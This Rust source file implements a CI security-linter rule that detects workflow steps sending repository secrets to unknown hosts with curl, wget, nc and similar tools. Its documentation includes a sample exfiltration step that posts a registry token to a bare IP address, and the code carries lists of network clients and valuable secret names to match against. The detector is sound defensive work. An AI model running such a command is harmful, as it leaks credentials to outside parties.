use lockgate_evidence::{Confidence, Finding, Severity, Span, rule};
use lockgate_pipelines::expression::{Expr, Template};
use lockgate_pipelines::model::Run;
use lockgate_pipelines::shell::{Command, Script, Word};

use crate::context::Context;
use crate::data::hosts::{COLLECTING_HOSTS, TRUSTED_HOSTS, is_below};
use crate::facts::named_secrets::may_be_named;
use crate::facts::spots::{ScriptSecrets, env_of, listed, may_hold_secrets};
use crate::tree::Place;

rule! {
    /// # What it finds
    ///
    /// A script that sends secrets with `curl`, `wget` or their kin to a host that is written out and is not a well-known
    /// service: every secret, hosts that collect what is sent to them, bare addresses, several secrets at once, a token for a
    /// registry or cloud under its own name (`PYPI_TOKEN=…`), or a secret without encryption. Hosts that come from variables, the own machine and one secret sent by HTTPS in a header, as every
    /// deployment does, are left out.
    ///
    /// # Why it matters
    ///
    /// In the GhostAction campaign of September 2025 workflows were pushed to hundreds of repositories that sent their secrets
    /// to a foreign server; over three thousand secrets were lost. The severity is critical for every secret and for hosts
    /// that collect, high for bare addresses, secrets under their names and several at once, and medium for a secret without
    /// encryption. The confidence is high for every secret, else medium, and low for several secrets, because a service of
    /// one's own looks the same.
    ///
    /// # Bad
    ///
    /// ```yaml
    /// on: push
    /// jobs:
    ///   sync:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: curl -d "token=${{ secrets.REGISTRY_TOKEN }}" http://192.0.2.7/
    /// ```
    ///
    /// # Good
    ///
    /// ```yaml
    /// on: push
    /// jobs:
    ///   sync:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: curl --config - https://api.example.com/sync < "$RUNNER_TEMP/header"
    /// ```
    ///
    /// # How to fix
    ///
    /// Find out who wrote the line. Where it is not yours, change every secret of the repository; where it is, send the one
    /// secret that the service needs, by HTTPS, to a name.
    ///
    /// # References
    ///
    /// - The GhostAction campaign, GitGuardian, 2025
    Workload "workload/secret-egress": "secrets are sent to a host nobody knows", High, Medium
}

const CLIENTS: &[&str] = &[
    "curl",
    "http",
    "https",
    "httpie",
    "invoke-restmethod",
    "invoke-webrequest",
    "irm",
    "iwr",
    "nc",
    "ncat",
    "wget",
    "xh",
];

pub(super) fn check(cx: &Context<'_>, out: &mut Vec<Finding>) {
    let Some(pipeline) = cx.pipeline() else {
        return;
    };
    if !may_be_named(pipeline) {
        return;
    }
    for (place, job, step) in cx.steps() {
        let Some(run) = step.run().filter(|run| may_hold_secrets(&place, run)) else {
            continue;
        };
        let lower = run.script.value().to_ascii_lowercase();
        if !CLIENTS.iter().any(|client| lower.contains(client)) {
            continue;
        }
        let script = run.parsed(pipeline.shell_of(job, step));
        let secrets = ScriptSecrets::of(&place, run, script);
        let everything = Everything::of(&place, run);
        if secrets.is_empty() && everything.is_empty() {
            continue;
        }
        for index in 0..script.commands.len() {
            out.extend(command(cx, run, script, index, &secrets, &everything));
        }
    }
}

fn command(
    cx: &Context<'_>,
    run: &Run,
    script: &Script,
    index: usize,
    secrets: &ScriptSecrets,
    everything: &Everything<'_>,
) -> Option<Finding> {
    let command = script.commands.get(index)?;
    let client = command
        .effective()
        .filter(|command| CLIENTS.contains(&command.name.as_str()))?;
    let words = words(script, index);
    let all = words.iter().any(|word| everything.is_in(word));
    let sent = sent(&words, secrets);
    if sent.is_empty() && !all {
        return None;
    }
    let (host, encrypted) = host(command, &client.name)?;
    if is_below(&host, TRUSTED_HOSTS) || is_here(&host) {
        return None;
    }
    let names: Vec<&str> = sent.iter().map(String::as_str).collect();
    let (severity, confidence, why) = match () {
        () if all => (Severity::Critical, Confidence::High, ""),
        () if is_below(&host, COLLECTING_HOSTS) => (
            Severity::Critical,
            Confidence::Medium,
            ", which collects what is sent to it",
        ),
        () if is_bare(&host) => (
            Severity::High,
            Confidence::Medium,
            ", an address without a name",
        ),
        () if sent.iter().any(|name| is_delivered(name, &words)) => (
            Severity::High,
            Confidence::Medium,
            ", under its own name, as somebody does who collects them",
        ),
        () if sent.len() > 2 => (Severity::High, Confidence::Low, ""),
        () if !encrypted => (Severity::Medium, Confidence::Medium, " without encryption"),
        () => return None,
    };
    let what = if all {
        "every secret of the repository".to_owned()
    } else {
        listed(&names)
    };
    let message = format!("`{}` sends {what} to `{host}`{why}", client.name);
    let finding = cx.finding(&RULE, run.script.locate(command.span), message);
    Some(finding.severity(severity).confidence(confidence))
}

/// Variables and expressions that hold the whole `secrets` context.
struct Everything<'a> {
    variables: Vec<&'a str>,
    templates: Vec<Span>,
}

impl<'a> Everything<'a> {
    fn of(place: &Place<'a>, run: &Run) -> Self {
        let holding = env_of(place)
            .into_iter()
            .filter(|binding| binding.value.templates().iter().any(is_everything));
        let templates = run
            .script
            .templates()
            .iter()
            .filter(|template| is_everything(template));
        Self {
            variables: holding.map(|binding| binding.key.value()).collect(),
            templates: templates.map(|template| template.span).collect(),
        }
    }

    fn is_empty(&self) -> bool {
        self.variables.is_empty() && self.templates.is_empty()
    }

    fn is_in(&self, word: &Word) -> bool {
        word.variables()
            .any(|name| self.variables.contains(&name.trim_start_matches("env:")))
            || self.templates.iter().any(|span| word.span.contains(*span))
    }
}

fn is_everything(template: &Template) -> bool {
    let contexts = template
        .expression
        .as_ref()
        .map(Expr::contexts)
        .unwrap_or_default();
    contexts
        .iter()
        .any(|access| access.path.to_string() == "secrets")
}

/// Secrets that open registries, clouds and machines; parts of their usual names.
const VALUABLE: &[&str] = &[
    "AWS_", "CARGO", "CRATES", "DOCKER", "GCP", "GH_", "GITHUB", "NPM", "PYPI", "RUBYGEMS", "SSH_",
];

/// True where a valuable secret is sent as `ITS_NAME=…`: what reads it wants to know which one it got.
fn is_delivered(name: &str, words: &[&Word]) -> bool {
    let valuable = VALUABLE
        .iter()
        .any(|part| name.to_ascii_uppercase().contains(part));
    valuable
        && words.iter().any(|word| {
            word.text.contains(&format!("{name}=")) || word.text.contains(&format!("{name}\":"))
        })
}

/// A command's words, and those of what is printed into it.
fn words(script: &Script, index: usize) -> Vec<&Word> {
    let before = (0..index).filter(|&other| script.downstream(other).any(|reader| reader == index));
    let commands = before
        .chain([index])
        .filter_map(|at| script.commands.get(at));
    let mut found = Vec::new();
    for command in commands {
        let bodies = command
            .redirects
            .iter()
            .filter_map(|redirect| redirect.heredoc.as_ref());
        found.extend(&command.args);
        found.extend(bodies.map(|heredoc| &heredoc.body));
    }
    found
}

/// The secrets in words, each once.
fn sent(words: &[&Word], secrets: &ScriptSecrets) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for secret in words.iter().flat_map(|word| secrets.all_in_word(word)) {
        if !found.contains(&secret) {
            found.push(secret);
        }
    }
    found
}

/// The host that is written out, and whether the way there is encrypted.
fn host(command: &Command, client: &str) -> Option<(String, bool)> {
    if matches!(client, "nc" | "ncat") {
        let words = command.args.iter().filter_map(Word::literal);
        let host = words
            .into_iter()
            .find(|word| word.contains('.') && !word.starts_with('-'))?;
        return Some((host, false));
    }
    command.args.iter().find_map(|word| {
        let (scheme, rest) = word.text.trim_matches(['"', '\'']).split_once("://")?;
        let scheme = scheme.rsplit(['"', '\'', '=']).next().unwrap_or(scheme);
        let end = rest.find(['/', '?', '"', '\'', '#']).unwrap_or(rest.len());
        let authority = rest.get(..end)?;
        let host = authority
            .rsplit_once('@')
            .map_or(authority, |(_, host)| host);
        let host = host.split_once(':').map_or(host, |(host, _)| host);
        let literal = !host.is_empty() && !host.contains(['$', '{', '(', '%', '`']);
        let header = word.text.contains("eferer") || word.text.contains("rigin:");
        (literal && !header).then(|| (host.to_ascii_lowercase(), scheme != "http"))
    })
}

fn is_here(host: &str) -> bool {
    matches!(host, "localhost" | "0.0.0.0" | "host.docker.internal")
        || host.starts_with("127.")
        || host.starts_with("10.")
        || host.starts_with("192.168.")
        || host.starts_with("169.254.")
        || !host.contains('.')
}

fn is_bare(host: &str) -> bool {
    host.split('.').count() == 4 && host.split('.').all(|part| part.parse::<u8>().is_ok())
}
